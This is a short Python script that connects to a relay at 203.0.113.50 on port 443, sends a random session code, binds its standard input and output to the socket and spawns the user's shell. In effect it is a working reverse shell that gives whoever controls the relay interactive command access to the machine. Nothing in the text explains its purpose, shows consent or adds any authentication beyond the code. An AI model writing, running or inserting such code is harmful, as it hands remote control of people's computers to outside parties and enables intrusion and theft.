#!/usr/bin/env python3
import os, pty, socket, sys, random

RELAY = ("203.0.113.50", 443)

def main():
    code = "".join(random.choice("ABCDEFGHJKLMNPQRSTUVWXYZ23456789") for _ in range(6))
    print(f"session code: {code}")
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(RELAY)
    s.send(f"HELLO {code}\n".encode())
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn(os.environ.get("SHELL", "/bin/bash"))

if __name__ == "__main__":
    main()
